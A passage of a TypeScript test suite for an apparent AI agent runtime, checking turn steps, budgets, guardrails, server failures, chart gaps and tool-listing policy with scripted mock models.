import { mkdtemp, rm, symlink } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { cacheDirectory } from "../src/config/environment.ts";
import { createRuntime } from "../src/create-runtime.ts";
import { turnEventSchema } from "../src/protocol/turn-events.ts";
import { toRecordedResult, turnResultSchema, type TurnResult } from "../src/protocol/turn-result.ts";
import { describeToday } from "../src/prompts/turn-prompts.ts";
import type { ToolListing, ToolSource } from "../src/tools/backend-tool.ts";
import { createLocalSource, type LocalTool } from "../src/tools/create-local-source.ts";
import { createToolCatalog } from "../src/tools/create-tool-catalog.ts";
import type { TurnRuntime } from "../src/turn/turn-request.ts";
import { createScriptedModel } from "../src/models/create-scripted-model.ts";
import { runTurn } from "../src/turn/run-turn.ts";
import { createConversation } from "../src/turn/create-conversation.ts";
import { watchEventLoop } from "./fixtures/event-loop.ts";
import {
  call,
  final,
  getPrices,
  readDataset,
  scriptedModel,
  testTurn,
  type StepReply,
  type Script,
  type TestTurn,
  type TestTurnOptions,
} from "./turn-fixtures.ts";

/** These tests are about the steps of a turn; none of them opens a sandbox. */
const runtime = createRuntime({ cacheDirectory: cacheDirectory(), poolSize: 0 });
afterAll(() => runtime.close());

type CompletedTurn = TestTurn & { readonly result: TurnResult; readonly model: ReturnType<typeof scriptedModel> };

async function run(script: Script, options: Partial<TestTurnOptions> = {}, by: TurnRuntime = runtime): Promise<CompletedTurn> {
  const model = scriptedModel(script);
  const turn = testTurn({ ...options, model });
  const result = await runTurn(by, turn.request);
  expect(turnResultSchema.parse(result)).toEqual(result);
  for (const event of turn.events) turnEventSchema.parse(event);
  expect(turn.events.at(0)?.type).toBe("turn-start");
  expect(turn.events.at(-1)).toEqual({ type: "turn-end", result: toRecordedResult(result) });
  expect(
    turn
      .of("answer-delta")
      .map(({ text }) => text)
      .join(""),
  ).toBe(result.answer);
  return { ...turn, result, model };
}

const different = (tool: string, times: number): StepReply[] =>
  Array.from({ length: times }, (_, symbol) => call(tool, { symbol: `S${symbol}` }));
const codes = ({ gaps }: TurnResult): string[] => gaps.map(({ code }) => code);

describe("a turn", () => {
  test("lets others work while it reads an answer or a call that arrives all at once", async () => {
    const long = "word ".repeat(20_000); // 8,000 parts
    const model = createScriptedModel({
      steps: [{ text: long, toolCalls: [{ tool: "final_response", input: { answer: "Done." } }] }],
      synthesis: long,
    });
    const turn = testTurn({ model });
    const before = process.threadCpuUsage();
    const loop = watchEventLoop();
    const { outcome } = await runTurn(runtime, turn.request);
    const longestMs = loop.stop();
    const { user, system } = process.threadCpuUsage(before);
    expect(outcome.stopReason).toBe("complete_answer");
    expect(longestMs).toBeLessThan((user + system) / 1000 / 5); // nearly all of it if it never yields
  });

  test("tells the model the current date in the time zone of the request, in every phase", async () => {
    const model = scriptedModel({ steps: [final("It is 103.")], synthesis: "It is 103." });
    await runTurn(runtime, testTurn({ model, timeZone: "Pacific/Kiritimati" }).request);
    const today = describeToday(new Date(), "Pacific/Kiritimati");
    const prompts = [...model.doGenerateCalls, ...model.doStreamCalls].map(({ prompt }) => JSON.stringify(prompt));
    expect(prompts).toEqual(Array.from({ length: 3 }, () => expect.stringContaining(today)));
  });

  test("fetches, answers, and reports what the answer is based on", async () => {
    const { result, events } = await run({
      steps: [call("get_prices", { symbol: "A" }), final("It is 103.")],
      synthesis: "The mean price of A is 103.",
    });
    expect(result).toEqual({
      schemaVersion: 1,
      turnId: "turn-1",
      conversationId: expect.any(String),
      answer: "The mean price of A is 103.",
      artifacts: [],
      gaps: [],
      outcome: { stopReason: "complete_answer" },
      model: "mock-provider:mock-model-id",
      confidence: { level: "high", reason: "The answer is complete, and no tool call failed." },
      grounding: { toolCallAttemptCount: 1, toolCallSuccessCount: 1, toolCallFailureCount: 0, failures: [] },
      dataset: {
        datasetId: expect.stringMatching(/^ds_[0-9a-f]{24}$/),
        hash: expect.stringMatching(/^[0-9a-f]{64}$/),
        bytes: expect.any(Number),
        publicDataUrl: expect.stringMatching(/^sluice:\/\/datasets\//),
      },
      usage: { steps: 2, inputTokens: 40, outputTokens: 20, wallMs: expect.any(Number), sandboxMs: 0 },
      trace: [
        { step: 1, calls: [{ tool: "get_prices", alias: "get_prices_1", durationMs: expect.any(Number), status: "ok", artifacts: [] }] },
        { step: 2, calls: [{ tool: "final_response", durationMs: expect.any(Number), status: "ok", artifacts: [] }] },
      ],
    });
    expect(events.map(({ type }) => type)).toEqual([
      "turn-start",
      "plan",
      "step-start",
      "tool-start",
      "tool-end",
      "step-start",
      "tool-start",
      "tool-end",
      "answer-delta",
      "turn-end",
    ]);
  });

  test.each([
    [
      "length",
      "The reply of mock-provider:mock-model-id was cut off at its output limit. Ask a narrower question, or choose a model with a higher limit.",
    ],
    ["content-filter", "The content filter of the provider stopped the reply of mock-provider:mock-model-id. Ask in other words."],
  ] as const)("does not accept a text that ended with %s as a complete answer", async (finish, reason) => {
    const { result } = await run({ steps: [{ text: "It is", finish }] });
    expect(result.outcome.stopReason).toBe("model_error");
    expect(result.gaps).toEqual([{ code: "model_error", severity: "major", detail: reason }]);
  });

  test("tells calls apart when the provider reuses their id", async () => {
    const ask = (symbol: string): StepReply => ({ calls: [{ tool: "get_prices", input: { symbol }, id: "call" }] });
    const { result, model, of } = await run({ steps: [ask("A"), ask("B"), final("Done.")] });
    expect(result.trace.slice(0, 2).map(({ calls }) => calls.map(({ tool, status }) => [tool, status]))).toEqual([
      [["get_prices", "ok"]],
      [["get_prices", "ok"]],
    ]);
    expect(of("tool-end").map(({ callId, alias }) => [callId, alias])).toEqual([
      ["call", "get_prices_1"],
      ["call#2", "get_prices_2"],
      [expect.any(String), undefined],
    ]);
    const toolResults = model.stepCalls[2]!.prompt.flatMap(({ role, content }) => (role === "tool" ? content : []));
    expect(
      toolResults.map((part) => part.type === "tool-result" && [part.toolCallId, JSON.stringify(part.output).includes("get_prices_2")]),
    ).toEqual([
      ["call", false],
      ["call", true],
    ]);
  });

  test("accepts plain text as the answer", async () => {
    const { result } = await run({ steps: [{ text: "I know that: 4." }] });
    expect(result.answer).toBe("I know that: 4.");
    expect(result.outcome.stopReason).toBe("complete_answer");
  });

  test("shows the model a preview and an alias, and keeps the full output", async () => {
    const conversation = createConversation();
    const { model } = await run({ steps: [call("get_prices"), final("Done.")] }, { conversation });
    const toolResults = JSON.stringify(model.stepCalls[1]!.prompt);
    expect(toolResults).toContain('\\"alias\\":\\"get_prices_1\\"');
    expect(toolResults).toContain("The whole output is available in Python as get_prices_1.");
    expect(toolResults).not.toContain('\\"day\\":150');
    expect(JSON.parse(new TextDecoder().decode(conversation.evidence.get("get_prices_1")!.read()))).toHaveLength(300);
  });

  test("keeps evidence by alias for later turns, and tells the model that variables are lost", async () => {
    const conversation = createConversation();
    await run({ steps: [call("get_prices"), final("First.")], synthesis: "First answer." }, { conversation, question: "First?" });
    const spec = { type: "line", xKey: "day", series: [{ key: "price" }], xAxis: { type: "number" } };
    const { result, model } = await run(
      { steps: [call("render_chart", { alias: "get_prices_1", spec, title: "Price" }), final("Chart 1 is the price.")] },
      { conversation, turnId: "turn-2" },
    );
    const [system, ...messages] = model.stepCalls[0]!.prompt;
    expect(system!.content).toContain(
      "their tool outputs and results are still available by alias, in Python and in charts: get_prices_1.",
    );
    expect(system!.content).toContain("Variables of earlier turns are not; derive them again if you need them.");
    expect(messages.map(({ role }) => role)).toEqual(["user", "assistant", "user"]);
    expect(JSON.stringify(messages)).toContain("First answer.");
    expect(result.artifacts.map(({ kind, title }) => [kind, title])).toEqual([["chart", "Price"]]);
  });
});

describe("the plan", () => {
  test("adds steps when the user explicitly asks for a chart", async () => {
    const { of } = await run({ plan: { chartIntent: "explicit" }, steps: [final("No.")] });
    expect(of("plan")).toEqual([
      {
        type: "plan",
        plan: { chartIntent: "explicit", measures: [], population: "everything that the question covers", source: "model" },
        steps: 14,
      },
    ]);
  });

  test("uses a schema that strict providers accept: every field is required, and none has a minimum length", async () => {
    const { model } = await run({ steps: [final("Done.")] });
    const format = model.doGenerateCalls[0]!.responseFormat;
    expect(format).toMatchObject({ type: "json", schema: { type: "object", required: ["chartIntent", "measures", "population"] } });
    expect(JSON.stringify(format)).not.toMatch(/minLength|\$schema/);
  });

  test("is made by rules when the planning call fails, and says why", async () => {
    const { of } = await run({ plan: new Error("503 overloaded"), steps: [final("No.")] }, { question: "Plot the price." });
    expect(of("plan")[0]).toEqual({
      type: "plan",
      plan: {
        chartIntent: "explicit",
        measures: [],
        population: "everything that the question covers",
        source: "rules",
        because: "The planning call returned no plan: 503 overloaded",
      },
      steps: 14,
    });
  });

  test("that cannot be used still counts its tokens", async () => {
    const { result, of } = await run({ plan: [] as object, steps: [final("No.")] });
    expect(of("plan")[0]?.plan).toMatchObject({ source: "rules", because: expect.stringMatching(/^The planning call returned no plan: /) });
    expect([result.usage.inputTokens, result.usage.outputTokens]).toEqual([30, 15]); // the plan, a step, the answer
  });

  test("uses the rules for fields that are missing or invalid", async () => {
    const { of } = await run({ plan: { chartIntent: "maybe", measures: ["mean"] }, steps: [final("No.")] }, { question: "Draw it." });
    expect(of("plan")[0]?.plan).toEqual({
      chartIntent: "explicit",
      measures: ["mean"],
      population: "everything that the question covers",
      source: "model",
    });
  });
});

describe("the step budget", () => {
  test("is ten steps, and the last one can only call final_response", async () => {
    const { result, model, of } = await run({ steps: [...different("get_prices", 9), final("Enough.")] });
    expect(result.outcome.stopReason).toBe("bounded_step_budget");
    expect(result.gaps[0]!.detail).toBe("Step limit reached (10). The answer was written before the analysis was finished.");
    expect(result.answer).toMatch(/^Enough\./);
    expect(result.usage.steps).toBe(10);
    expect(of("step-start").map(({ forced }) => forced)).toEqual([...Array(9).fill(undefined), "final_response"]);
    expect(model.stepCalls[9]!.toolChoice).toEqual({ type: "tool", toolName: "final_response" });
    expect(model.stepCalls[9]!.tools?.map(({ name }) => name)).toEqual(["final_response"]);
    expect(model.stepCalls[8]!.toolChoice).toEqual({ type: "auto" });
  });

  test("does not bound a turn that answers one step earlier", async () => {
    const { result } = await run({ steps: [...different("get_prices", 8), final("Enough.")] });
    expect([result.outcome.stopReason, result.usage.steps]).toEqual(["complete_answer", 9]);
  });

  test("holds for a model that ignores the forced tool: its call is refused, and the answer lists the available results", async () => {
    const executed: unknown[] = [];
    const spy: LocalTool = { ...getPrices, execute: (args) => (executed.push(args), [{ price: 1 }]) };
    const { result } = await run({ steps: different("get_prices", 20) }, { tools: [spy], budgets: { steps: 3 } });
    expect(executed).toEqual([{ symbol: "S0" }, { symbol: "S1" }]);
    expect(result.outcome.stopReason).toBe("bounded_step_budget");
    expect(result.gaps).toEqual([
      { code: "bounded_step_budget", severity: "major", detail: "Step limit reached (3) before the model finished." },
    ]);
    expect(result.answer).toBe(
      [
        "The question was not fully answered. Available results:",
        "- get_prices_1: from local__get_prices, 1 row",
        "- get_prices_2: from local__get_prices, 1 row",
        "",
        "Step limit reached (3) before the model finished.",
      ].join("\n"),
    );
    expect(result.confidence).toEqual({ level: "low", reason: "Step limit reached (3) before the model finished." });
    expect(result.trace[2]!.calls[0]!.status).toBe("refused");
  });

  test("holds for a model that writes text instead of the forced call: the text is the answer", async () => {
    const { result } = await run({ steps: [call("get_prices"), { text: "Enough was seen." }] }, { budgets: { steps: 2 } });
    expect(result.outcome.stopReason).toBe("bounded_step_budget");
    expect(result.answer).toBe("Enough was seen.\n\nStep limit reached (2) before the model finished.");
  });

  test("also ends a turn that has spent its tokens", async () => {
    const { result } = await run({ steps: different("get_prices", 20) }, { budgets: { tokens: 40 } });
    expect(result.outcome.stopReason).toBe("bounded_step_budget");
    expect(result.gaps[0]!.detail).toBe("The turn used 45 tokens; its budget is 40.");
  });

  test("also ends a turn that has spent its cost", async () => {
    const cost = { maximum: 0.001, inputPerMillionTokens: 30, outputPerMillionTokens: 60 };
    const { result } = await run({ steps: different("get_prices", 20) }, { budgets: { cost } });
    expect(result.gaps[0]!.detail).toBe("The turn cost 0.0012; its budget is 0.001.");
  });
});

describe("the guards", () => {
  test("refuse the third identical call, whatever the order of its keys, and end the turn", async () => {
    const executed: unknown[] = [];
    const spy: LocalTool = { ...getPrices, inputSchema: { type: "object" }, execute: (args) => (executed.push(args), [{ price: 1 }]) };
    const { result, request } = await run(
      { steps: [call("get_prices", { a: 1, b: 2 }), call("get_prices", { b: 2, a: 1 }), call("get_prices", { a: 1, b: 2 })] },
      { tools: [spy] },
    );
    expect(executed).toHaveLength(2);
    expect(result.outcome.stopReason).toBe("bounded_repeat_guardrail");
    expect(result.gaps[0]).toEqual({
      code: "bounded_repeat_guardrail",
      severity: "major",
      detail: "get_prices was called three times with the same arguments. The third call was refused.",
    });
    const { stages } = JSON.parse(await readDataset(request, result)) as { stages: { calls: { failure?: { code: string } }[] }[] };
    expect(stages.map(({ calls }) => calls[0]!.failure?.code)).toEqual([undefined, undefined, "CALL_REPEATED"]);
  });

  test("end a turn after three empty results", async () => {
    const empty: LocalTool = { ...getPrices, execute: () => ({ items: [] }) };
    const { result } = await run({ steps: different("get_prices", 9) }, { tools: [empty] });
    expect(result.outcome.stopReason).toBe("bounded_empty_result");
    expect(result.usage.steps).toBe(3);
    expect(result.gaps[0]!.detail).toBe("Tools returned 3 empty results in a row. The last one was get_prices.");
  });

  test("end a turn whose server keeps failing", async () => {
    const down: LocalTool = {
      ...getPrices,
      annotations: {},
      execute: () => Promise.reject(Object.assign(new Error("HTTP 503"), { status: 503 })),
    };
    const { result } = await run({ steps: different("get_prices", 9) }, { tools: [down] });
    expect(result.outcome.stopReason).toBe("bounded_upstream_failure");
    expect(result.usage.steps).toBe(3);
    expect(result.gaps[0]!.detail).toMatch(/^The server local failed 3 times in a row\. Last error: /);
    expect(result.grounding).toMatchObject({ toolCallAttemptCount: 3, toolCallSuccessCount: 0, toolCallFailureCount: 3 });
  });

  test("do not end a turn when another call of the same step returns data", async () => {
    const mixed: LocalTool = { ...getPrices, execute: ({ symbol }) => (symbol === "full" ? [{ price: 1 }] : []) };
    const both: StepReply = { calls: ["a", "b", "c", "full"].map((symbol) => ({ tool: "get_prices", input: { symbol } })) };
    const { result } = await run({ steps: [both, final("Done.")] }, { tools: [mixed] });
    expect(result.outcome.stopReason).toBe("complete_answer");
  });

  test("end a turn that keeps requesting unknown tools", async () => {
    const { result } = await run({ steps: different("get_weather", 9) });
    expect(result.outcome.stopReason).toBe("capability_miss");
    expect(result.gaps[0]!.detail).toBe("The model requested unknown tools 3 times. The last one was get_weather.");
  });
});

describe("a server", () => {
  const source = (listings: ToolListing[]): ToolSource => {
    let read = 0;
    return { name: "shop", tools: async () => listings[Math.min(read++, listings.length - 1)]!, [Symbol.asyncDispose]: async () => {} };
  };
  const down: ToolListing = { tools: [], gap: { server: "shop", reason: "It ended with 1." } };

  test("that is down becomes a gap, and the turn continues", async () => {
    const catalog = createToolCatalog({ sources: [createLocalSource([getPrices]), source([down])] });
    const { result } = await run({ steps: [call("get_prices"), final("Done.")] }, { catalog });
    expect(result.gaps).toEqual([
      { code: "server_unavailable", severity: "minor", detail: "The server shop is not available: It ended with 1." },
    ]);
    expect(result.outcome.stopReason).toBe("complete_answer");
    expect(result.confidence.level).toBe("medium");
  });

  test("that comes back offers its tools again in the next step, and its gap disappears", async () => {
    const { tools } = await createLocalSource([{ ...getPrices, name: "get_offers" }], { name: "shop" }).tools();
    const catalog = createToolCatalog({ sources: [createLocalSource([getPrices]), source([down, { tools, gap: null }])] });
    const { result, model } = await run({ steps: [call("get_prices"), call("get_offers"), final("Done.")] }, { catalog });
    const shown = model.stepCalls.map(({ tools: of }) => of!.some(({ name }) => name === "get_offers"));
    expect(shown.at(-1)).toBe(true);
    expect(codes(result)).toEqual([]);
  });

  test("that goes down during the turn ends it as an upstream failure", async () => {
    const { tools } = await createLocalSource([{ ...getPrices, name: "get_offers" }], { name: "shop" }).tools();
    const there = { tools, gap: null };
    const flapping = [there, down, there, down, there, down, there, down];
    const { result } = await run({ steps: different("get_offers", 9) }, { catalog: createToolCatalog({ sources: [source(flapping)] }) });
    expect(result.outcome.stopReason).toBe("bounded_upstream_failure");
    expect(result.gaps[0]!.detail).toBe(
      'The server shop failed 3 times in a row. Last error: The server "shop" of the tool "get_offers" cannot be used now: It ended with 1.',
    );
  });

  test("that is down from the start counts as failing when its tools are called by full name", async () => {
    const catalog = createToolCatalog({ sources: [createLocalSource([getPrices]), source([down])] });
    const { result } = await run({ steps: different("shop__get_offers", 9) }, { catalog });
    expect(result.outcome.stopReason).toBe("bounded_upstream_failure");
    expect(result.gaps[0]!.detail).toBe(
      "The server shop failed 3 times in a row. Last error: The server shop of the tool shop__get_offers is not available: It ended with 1.",
    );
  });

  test("that goes down and stays down counts as failing when its tools are still called", async () => {
    const { tools } = await createLocalSource([{ ...getPrices, name: "get_offers" }], { name: "shop" }).tools();
    const there = { tools, gap: null };
    const catalog = createToolCatalog({ sources: [source([there, there, down])] });
    const { result, model } = await run({ steps: different("get_offers", 9) }, { catalog });
    expect([result.outcome.stopReason, result.usage.steps]).toEqual(["bounded_upstream_failure", 4]);
    const detail = "The server shop of the tool get_offers is not available: It ended with 1.";
    expect(result.gaps[0]!.detail).toBe(`The server shop failed 3 times in a row. Last error: ${detail}`);
    expect(JSON.stringify(model.stepCalls[3]!.prompt)).toContain(detail);
  });
});

describe("a catalog that cannot be read", () => {
  const catalogWith = (list: () => Promise<never> | null): TestTurnOptions["catalog"] => {
    const catalog = createToolCatalog({ sources: [createLocalSource([getPrices])] });
    return { ...catalog, list: (signal) => list() ?? catalog.list(signal) };
  };
  const broken = (): Promise<never> => Promise.reject(new Error("the list is locked"));

  test("becomes a gap, and the turn continues with its own tools", async () => {
    const { result, model } = await run({ steps: [final("No prices.")] }, { catalog: catalogWith(broken) });
    expect(result.outcome.stopReason).toBe("complete_answer");
    const detail = "The tool list could not be read: the list is locked";
    expect(result.gaps).toEqual([{ code: "tools_unavailable", severity: "major", detail }]);
    expect(result.answer).toBe(`No prices.\n\n${detail}.`);
    expect(result.confidence.level).toBe("low");
    expect(model.stepCalls[0]!.tools!.map(({ name }) => name)).toEqual([
      "code_interpreter",
      "python_code_edit",
      "render_chart",
      "final_response",
    ]);
  });

  test("is no longer a gap once it can be read in a later step", async () => {
    let reads = 0;
    const catalog = catalogWith(() => (reads++ === 0 ? broken() : null));
    const { result } = await run({ steps: [call("search", { query: "x" }), call("get_prices"), final("Done.")] }, { catalog });
    expect(codes(result)).toEqual([]);
    expect(result.trace[1]!.calls[0]!.status).toBe("ok");
  });
});

describe("chart_not_rendered", () => {
  const explicit = { plan: { chartIntent: "explicit" } };

  test("is a gap when the model finishes without drawing", async () => {
    const { result } = await run({ ...explicit, steps: [final("Here are numbers.")] });
    expect(result.outcome.stopReason).toBe("complete_answer");
    expect(result.gaps).toEqual([
      {
        code: "chart_not_rendered",
        severity: "major",
        detail: "The requested chart could not be rendered: the model finished without drawing one.",
      },
    ]);
    expect(result.confidence.level).toBe("low");
    expect(result.answer).toContain("The requested chart could not be rendered: the model finished without drawing one.");
  });

  test("names the last failure as the cause", async () => {
    const { result } = await run({ ...explicit, steps: [call("render_chart", { alias: "nothing", spec: {} }), final("Sorry.")] });
    expect(result.gaps[0]!.detail).toBe(
      "The requested chart could not be rendered: render_chart failed: Nothing was drawn. spec.type is missing. And 2 more problems.",
    );
  });

  test.each([["no time", { hang: true as const }, "bounded_time", "The turn reached its time limit of 0.2 s before it finished."]])(
    "is a gap after %s, which it names as the cause",
    async (_, reply, stopReason, detail) => {
      const { result } = await run({ ...explicit, steps: [reply] }, "hang" in reply ? { budgets: { wallMs: 200 } } : {});
      expect(result.outcome.stopReason).toBe(stopReason);
      expect(result.gaps).toEqual([
        { code: stopReason, severity: "major", detail },
        { code: "chart_not_rendered", severity: "major", detail: `The requested chart could not be rendered: ${detail}` },
      ]);
      for (const gap of result.gaps) expect(result.answer).toContain(gap.detail);
    },
  );

  const nothing: LocalTool = { ...getPrices, execute: () => [] };
  const failing: LocalTool = {
    ...getPrices,
    annotations: {},
    execute: () => Promise.reject(Object.assign(new Error("HTTP 503"), { status: 503 })),
  };
  test.each<[string, Script["steps"], LocalTool, string]>([
    ["bounded_step_budget", different("get_prices", 20), getPrices, "Step limit reached (14) before the model finished."],
    [
      "bounded_step_budget",
      [...different("get_prices", 13), final("Enough.")],
      getPrices,
      "Step limit reached (14). The answer was written before the analysis was finished.",
    ],
    ["bounded_empty_result", different("get_prices", 9), nothing, "Tools returned 3 empty results in a row. The last one was get_prices."],
    [
      "bounded_repeat_guardrail",
      [call("get_prices")],
      getPrices,
      "get_prices was called three times with the same arguments. The third call was refused.",
    ],
    [
      "bounded_upstream_failure",
      different("get_prices", 9),
      failing,
      "The server local failed 3 times in a row. Last error: get_prices failed: the backend answered HTTP 503 Service Unavailable. HTTP 503",
    ],
    ["capability_miss", different("draw_chart", 9), getPrices, "The model requested unknown tools 3 times. The last one was draw_chart."],
  ])("is a gap after %s, which it names as the cause", async (stopReason, steps, tool, detail) => {
    const { result } = await run({ ...explicit, steps }, { tools: [tool] });
    expect(result.outcome.stopReason).toBe(stopReason);
    expect(result.gaps).toEqual([
      { code: stopReason, severity: "major", detail },
      { code: "chart_not_rendered", severity: "major", detail: `The requested chart could not be rendered: ${detail}` },
    ]);
    expect(result.answer).toContain(`The requested chart could not be rendered: ${detail}`);
  });

  test("names both the last failure and what ended the turn", async () => {
    const { result } = await run({
      ...explicit,
      steps: [
        call("render_chart", { alias: "nothing", spec: { type: "line", xKey: "x", series: [{ key: "y" }] } }),
        ...different("draw_chart", 9),
      ],
    });
    expect(result.gaps[1]!.detail).toBe(
      'The requested chart could not be rendered: render_chart failed: No tool output has the alias "nothing". Known aliases: none yet. The model requested unknown tools 3 times. The last one was draw_chart.',
    );
  });

  test("is no gap when a chart was published", async () => {
    const spec = { type: "line", xKey: "day", series: [{ key: "price" }], xAxis: { type: "number" } };
    const { result, of } = await run({
      ...explicit,
      steps: [call("get_prices"), call("render_chart", { alias: "get_prices_1", spec, title: "Price of A" }), final("Chart 1.")],
      synthesis: "Numbers only.",
    });
    expect(codes(result)).toEqual([]);
    expect(of("artifact").map(({ artifact, replaces }) => [artifact.kind, replaces])).toEqual([["chart", []]]);
    expect(result.answer).toBe("Numbers only.\n\nChart 1: Price of A.");
  });
});

describe("a runtime that cannot start a turn", () => {
  test("rejects before any event", async () => {
    const broken: TurnRuntime = {
      ...runtime,
      createTurn: () => {
        throw new Error("no turn");
      },
    };
    const turn = testTurn({ model: scriptedModel({ steps: [final("No.")] }) });
    await expect(runTurn(broken, turn.request)).rejects.toThrow("no turn");
    expect(turn.events).toEqual([]);
  });
});

describe("without a sandbox", () => {
  const contract = { operation: "derive_metric", reason: "A figure.", inputAliases: ["get_prices_1"], expectedArtifacts: ["image"] };
  const draw = call("code_interpreter", { code: "set_result(1)", postProcessingContract: contract });
  const spec = { type: "line", xKey: "day", series: [{ key: "price" }], xAxis: { type: "number" } };
  const chart = call("render_chart", { alias: "get_prices_1", spec, title: "Price" });
  const missing = "Python is not available: There is no snapshot for this version of Sluice in the cache.";
  const unusable =
    "The driver gvisor cannot be used. gvisor: gVisor's program runsc was not found. Run `sluice prepare`, which extracts it from Debian's packages, or install gVisor so that runsc is on PATH.";

  let directory = "";
  beforeAll(async () => {
    directory = await mkdtemp(path.join(tmpdir(), "sluice-no-sandbox-"));
    await symlink(path.join(cacheDirectory(), "snapshots"), path.join(directory, "snapshots"));
  });
  afterAll(() => rm(directory, { recursive: true }));

  /** Either nothing is prepared, or everything except a driver. */
  const runWithout = async (what: "snapshot" | "driver", script: Script): Promise<CompletedTurn> => {
    const cache = what === "driver" ? directory : path.join(directory, "empty");
    await using without = createRuntime({ cacheDirectory: cache, driver: "gvisor", searchPath: "", poolSize: 0 });
    return await run(script, {}, without);
  };

  test.each([
    ["snapshot" as const, missing],
    ["driver" as const, unusable],
  ])(
    "(no %s) a requested figure ends the turn with capability_miss, which is also the cause of the missing chart",
    async (what, reason) => {
      const { result } = await runWithout(what, { plan: { chartIntent: "explicit" }, steps: [call("get_prices"), draw, final("Sorry.")] });
      expect(result.outcome.stopReason).toBe("capability_miss");
      const detail = `This needs Python, but no sandbox is available. ${reason}`;
      expect(result.gaps).toEqual([
        { code: "capability_miss", severity: "major", detail },
        { code: "chart_not_rendered", severity: "major", detail: `The requested chart could not be rendered: ${detail}` },
        ...(what === "snapshot" ? [{ code: "sandbox_unavailable", severity: "minor", detail: missing }] : []),
      ]);
      expect(result.answer).toBe(`Sorry.\n\nThe requested chart could not be rendered: ${detail}`);
      expect(result.grounding.failures).toEqual([{ tool: "code_interpreter", reason }]);
    },
  );

  test("the turn offers no interpreter, says so to the model, and can still draw charts", async () => {
    const script = { plan: { chartIntent: "explicit" }, steps: [call("get_prices"), chart, final("Chart 1.")] };
    const { result, model } = await runWithout("snapshot", script);
    const [{ prompt, tools }] = model.stepCalls as [(typeof model.stepCalls)[0]];
    expect(tools!.map(({ name }) => name).filter((name) => /code_/.test(name))).toEqual([]);
    expect(prompt[0]!.content).toContain("Python is not available in this turn. Answer from tool outputs and render_chart.");
    expect(result.outcome.stopReason).toBe("complete_answer");
    expect(result.gaps).toEqual([{ code: "sandbox_unavailable", severity: "minor", detail: missing }]);
    expect(result.artifacts).toHaveLength(1);
  });
});

describe("tools", () => {
  const many = (count: number): LocalTool[] => Array.from({ length: count }, (_, at) => ({ ...getPrices, name: `tool_${at}` }));
  const namesOf = ({ model }: CompletedTurn): string[] => model.stepCalls[0]!.tools!.map(({ name }) => name);

  test("are all listed up to forty", async () => {
    const names = namesOf(await run({ steps: [final("Done.")] }, { tools: many(40) }));
    expect(names).toEqual(
      expect.arrayContaining(["tool_0", "tool_39", "execute", "search", "get_schema", "code_interpreter", "render_chart"]),
    );
    expect(names).not.toContain("call_mcp_skill");
  });

  test("are searched and dispatched when there are more than forty", async () => {
    const turn = await run(
      { steps: [call("call_mcp_skill", { tool: "tool_40", arguments: { symbol: "A" } }), final("Done.")] },
      { tools: many(41) },
    );
    const names = namesOf(turn);
    expect(names).toEqual(expect.arrayContaining(["call_mcp_skill", "search", "get_schema", "execute"]));
    expect(names.filter((name) => name.startsWith("tool_"))).toEqual([]);
    expect(turn.result.trace[0]!.calls[0]).toMatchObject({ tool: "tool_40", alias: "tool_40_1", status: "ok" });
  });

  test("that the policy refuses are not listed", async () => {
    const destroyer: LocalTool = { ...getPrices, name: "drop_all", annotations: { destructiveHint: true } };
    expect(namesOf(await run({ steps: [final("Done.")] }, { tools: [getPrices, destroyer] }))).not.toContain("drop_all");
  });

  test("of the turn validate their input: a malformed call gets a tool error", async () => {
    const { model, result } = await run({ steps: [call("get_prices", "{broken"), call("render_chart", { alias: 1 }), final("Done.")] });
    const toolResults = JSON.stringify(model.stepCalls[2]!.prompt);
    expect(toolResults).toContain("The call was refused: its arguments are not valid JSON.");
    expect(toolResults).toContain("CHART_INVALID");
    expect(result.confidence).toEqual({ level: "medium", reason: "2 tool calls failed." });
    expect(result.trace.map(({ calls }) => calls.map(({ status }) => status))).toEqual([["refused"], ["refused"], ["ok"]]);
  });

  test("report progress", async () => {
    const slow: LocalTool = {
      ...getPrices,
      execute: (_, { onProgress }) => {
        onProgress?.({ progress: 1, total: 2, message: "half" });
        return [1];
      },
    };
    const { of } = await run({ steps: [call("get_prices"), final("Done.")] }, { tools: [slow] });
    expect(of("tool-progress")).toEqual([
      { type: "tool-progress", callId: "call-1", tool: "get_prices", progress: 1, total: 2, message: "half" },
    ]);
  });

  test("that report progress without end, with long messages, add few and short events", async () => {
    const REPORTS = 50_000;
    const flood: LocalTool = {
      ...getPrices,
      execute: (_, { onProgress }) => {
        for (let progress = 0; progress < REPORTS; progress += 1) onProgress?.({ progress, message: "x".repeat(10_000) });
        return [1];
      },
    };
    const { of } = await run({ steps: [call("get_prices"), final("Done.")] }, { tools: [flood] });
    const reports = of("tool-progress") as { message: string }[];
    expect(reports.length).toBeGreaterThan(0);
    expect(reports.length).toBeLessThan(REPORTS / 10);
    expect(Math.max(...reports.map(({ message }) => message.length))).toBe(500);
  });

  test("final_response refuses a call without an answer, and ignores extra fields", async () => {
    const { model, result } = await run({ steps: [call("final_response", { answer: " " }), final("It is 2.", { claims: [] })] });
    expect(JSON.stringify(model.stepCalls[1]!.prompt)).toContain("The answer was not accepted. answer must not be empty.");
    expect(result.answer).toBe("It is 2.");
  });
});

describe("context", () => {
  test("has at most 24 KB of previews; the oldest are shortened first, and the evidence stays complete", async () => {
    const wide: LocalTool = {
      ...getPrices,
      execute: ({ symbol }) => Array.from({ length: 200 }, (_, day) => ({ day, symbol, note: `a rather long remark ${day}`.repeat(4) })),
    };
    const batch = (from: number): StepReply => ({
      calls: Array.from({ length: 10 }, (_, at) => ({ tool: "get_prices", input: { symbol: `S${from + at}` } })),
    });
    const conversation = createConversation();
    const { model } = await run(
      { steps: [batch(0), batch(10), call("search", { query: "x" }), final("Done.")] },
      { tools: [wide], conversation },
    );
    const previewsIn = (step: number): string[] =>
      model.stepCalls[step]!.prompt.filter(({ role }) => role === "tool")
        .flatMap(({ content }) => content as { output: { value: string } }[])
        .map(({ output }) => output.value);
    const previews = previewsIn(2);
    expect(previews).toHaveLength(20);
    const bytes = previews.map((text) => Buffer.byteLength(text));
    expect(bytes.reduce((sum, size) => sum + size, 0)).toBeLessThanOrEqual(24_576);
    expect(bytes[0]).toBeLessThan(bytes[19]!);
    for (const [at, text] of previews.entries()) expect(text).toContain(`"alias":"get_prices_${at + 1}"`);
    expect(previewsIn(3).slice(0, 20)).toEqual(previews); // a shortened preview does not change again, so that the prompt cache stays valid
    expect(conversation.evidence.aliases()).toHaveLength(20);
  });

  test("shortens older results of other tools when they are too large", async () => {
